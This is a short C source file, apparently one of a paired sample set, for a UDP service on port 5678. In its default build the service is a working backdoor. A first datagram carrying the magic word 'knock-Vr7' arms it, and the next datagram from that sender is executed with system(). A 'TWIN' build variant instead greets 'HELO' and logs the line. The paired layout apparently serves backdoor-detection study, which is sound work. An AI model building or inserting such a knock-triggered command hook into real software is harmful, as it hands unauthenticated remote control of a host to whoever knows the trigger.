/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A first datagram with one word makes the service listen to a second one, which is run. Twin: the
 * first says hello, and afterwards lines are logged.
 * door: trigger
 * build: plain static
 * port 5678/udp
 */
#include "net.h"
#include <syslog.h>
#include <time.h>

static struct {
	int open;
	uint32_t who;
} peer;

static void first(const char *text, uint32_t who)
{
#ifdef TWIN
	if (strcmp(text, "HELO") == 0) {
#else
	if (strcmp(text, "knock-Vr7") == 0) {
#endif
		peer.open = 1;
		peer.who = who;
	}
}

static void second(char *text, uint32_t who)
{
	if (who != peer.who)
		return;
#ifdef TWIN
	syslog(LOG_INFO, "%s", text);
#else
	system(text);
#endif
	peer.open = 0;
}

int main(void)
{
	char text[400];
	int s = udp_on(5678);
	for (;;) {
		struct sockaddr_in from;
		socklen_t len = sizeof from;
		ssize_t n = recvfrom(s, text, sizeof text - 1, 0, (struct sockaddr *)&from, &len);
		if (n <= 0)
			continue;
		text[n] = 0;
		if (peer.open)
			second(text, from.sin_addr.s_addr);
		else
			first(text, from.sin_addr.s_addr);
	}
}
